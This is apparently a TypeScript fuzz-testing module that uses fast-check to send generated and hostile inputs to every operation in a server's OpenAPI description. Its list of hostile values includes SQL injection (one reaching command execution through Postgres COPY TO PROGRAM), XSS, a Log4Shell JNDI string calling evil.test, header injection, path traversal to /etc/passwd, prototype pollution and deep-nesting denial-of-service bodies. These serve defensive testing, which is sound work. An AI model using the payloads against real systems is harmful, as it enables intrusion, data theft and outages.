import fc from 'fast-check'
import type { TestClient } from '../platform/testing/process.ts'

type Schema = {
  readonly [key: string]: unknown
  readonly properties?: Record<string, Schema>
  readonly required?: readonly string[]
  readonly enum?: readonly unknown[]
  readonly anyOf?: readonly Schema[]
  readonly items?: Schema
  readonly additionalProperties?: Schema
}
export interface HostileOperation {
  readonly method: string
  readonly path: string
  readonly parameters: readonly {
    readonly name: string
    readonly in: string
    readonly schema: Schema
  }[]
  readonly body: Schema | 'lines' | undefined
}

/** Every call as the server itself describes it, but for the one that would end the login. */
export async function readOperations(client: TestClient): Promise<readonly HostileOperation[]> {
  const document = await client.call<{
    paths: Record<
      string,
      Record<
        string,
        {
          parameters: HostileOperation['parameters']
          requestBody?: { content: Record<string, { schema: { $ref?: string } }> }
        }
      >
    >
    components: { schemas: Record<string, Schema> }
  }>('GET', '/openapi.json')
  const bodyOf = (content: Record<string, { schema: { $ref?: string } }> | undefined) =>
    content &&
    (content['application/json']
      ? document.components.schemas[
          content['application/json'].schema.$ref?.split('/').at(-1) ?? ''
        ]
      : ('lines' as const))
  return Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(() => path !== '/logout')
      .map(([method, { parameters, requestBody }]) => ({
        method: method.toUpperCase(),
        path,
        parameters,
        body: bodyOf(requestBody?.content),
      })),
  )
}

const evil: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    '',
    '\u0000',
    'a\u0000b',
    '\ud800',
    '__proto__',
    'constructor',
    "'; drop table events; --",
    "' or '1'='1",
    '" union select * from vault --',
    "$$; copy events to program 'id'; $$",
    '<script>alert(1)</script>',
    '{{7*7}}',
    '${jndi:ldap://evil.test/x}',
    '\r\nset-cookie: callboard_session=x',
    '(a+)+$',
    '../../etc/passwd',
    '🦜'.repeat(40),
    'x'.repeat(3000),
    -1,
    0,
    1e308,
    -0.5,
    2 ** 53,
    2 ** 63,
    null,
    true,
    [],
    {},
    [[]],
    '9'.repeat(15),
    '+275760-09-13T00:00:00Z',
    '0000-01-01',
    '9999-12-31',
    '2026-02-30',
    '2026-03-29T03:30:00+14:00',
    '-271821-04-20',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.double(),
  fc.integer(),
)
const common: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  'owner',
  'north',
  'ana',
  'ctb',
  'obs-1',
  'polly',
  'Owner-1234!',
  'a@example.test',
  '2026-11-01',
  '2026-11-20T08:00:00Z',
  'Europe/Bucharest',
  'correct it',
  1,
  2,
  12,
)
/** Mostly what the schema asks for, so that requests come deep; now and then something else. */
export function valueFor(schema: Schema): fc.Arbitrary<unknown> {
  const good = goodFor(schema)
  return fc.oneof(
    { weight: 6, arbitrary: good },
    { weight: 1, arbitrary: evil },
    { weight: 1, arbitrary: common },
  )
}
function goodFor(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum)
  if ('const' in schema) return fc.constant(schema['const'])
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(valueFor))
  if (schema.properties)
    return fc.record(
      Object.fromEntries(
        Object.entries(schema.properties).map(([name, one]) => [name, valueFor(one)]),
      ),
      {
        requiredKeys: [...(schema.required ?? [])],
      },
    )
  if (schema.items) return fc.array(valueFor(schema.items), { maxLength: 4 })
  if (schema.additionalProperties)
    return fc.dictionary(
      fc.oneof(
        fc.constantFrom('ctb', 'mfc', '__proto__', 'constructor'),
        fc.string({ maxLength: 10 }),
      ),
      valueFor(schema.additionalProperties),
      { maxKeys: 4 },
    )
  if (schema['format'] === 'date')
    return fc
      .date({ noInvalidDate: true, min: new Date('0001-01-01'), max: new Date('9999-12-30') })
      .map((date) => date.toISOString().slice(0, 10))
  if (schema['format'] === 'date-time')
    return fc
      .date({ noInvalidDate: true, min: new Date('0001-01-01'), max: new Date('9999-12-30') })
      .map((date) => date.toISOString())
  if (schema['type'] === 'integer' || schema['type'] === 'number')
    return fc.oneof(fc.integer({ min: 0, max: 20 }), fc.integer(), fc.maxSafeInteger())
  if (schema['type'] === 'boolean') return fc.boolean()
  return fc.oneof(common, fc.string({ maxLength: 20 }))
}
const line = fc.record({
  observer: valueFor({}),
  site: valueFor({ enum: ['ctb', 'mfc'] }),
  account: valueFor({}),
  status: valueFor({ enum: [0, 1, 2, 3, 11, 12, 13] }),
  observed_at: valueFor({ format: 'date-time' }),
  seq: valueFor({ type: 'number' }),
  user: valueFor({}),
  name: valueFor({}),
  surname: valueFor({}),
  email: valueFor({ enum: ['a@example.test'] }),
  tipCont: valueFor({ enum: ['Model', 'Manager'] }),
  studio: valueFor({ enum: ['north'] }),
  conturi: valueFor({ additionalProperties: { properties: { username: {} } } }),
})
export const lines = fc
  .array(
    fc.oneof(
      { weight: 6, arbitrary: line.map((value) => JSON.stringify(value)) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          '',
          '{',
          '[]',
          'null',
          '{"observer":"a\\u0000"}',
          '['.repeat(5000),
        ),
      },
    ),
    { maxLength: 6 },
  )
  .map((all) => all.join('\n'))

/** The first member of an object, written twice with different values: readers that take the first and those that take the last must not differ here. */
const doubled = (text: string): string => text.replace(/^\{("(?:[^"\\]|\\.)*":)/, '{$1"first",$1')
/** The same body as bytes that say something else. */
export const manglers: readonly ((text: string) => Uint8Array)[] = [
  (text) => Buffer.from(text, 'latin1'),
  (text) => Buffer.from(text, 'utf16le'),
  (text) => Buffer.from(text).subarray(0, text.length / 2),
  (text) => Buffer.concat([Buffer.from(text), Buffer.from([0xff, 0xc0, 0x80])]),
  (text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
  (text) => Buffer.from(doubled(text)),
  (text) =>
    Buffer.from(
      text.replace('{', '{"__proto__":{"owner":true},"constructor":{"prototype":{"owner":true}},'),
    ),
  (text) => Buffer.from(text.replaceAll(/:(-?\d+|true|false|null)/g, ':1e999')),
  (text) => Buffer.from(text.replaceAll(/:(-?\d+|true|false|null)/g, `:${'9'.repeat(4000)}`)),
  (text) => Buffer.from(text.replaceAll(/:"[^"]*"/g, `:${'['.repeat(3000)}${']'.repeat(3000)}`)),
  (text) => Buffer.from(`${'{"a":'.repeat(20_000)}${text}${'}'.repeat(20_000)}`),
  (text) => Buffer.from(`${'['.repeat(200_000)}${text}`),
  (text) => Buffer.from(text.replaceAll('"', '\\u0000"')),
]
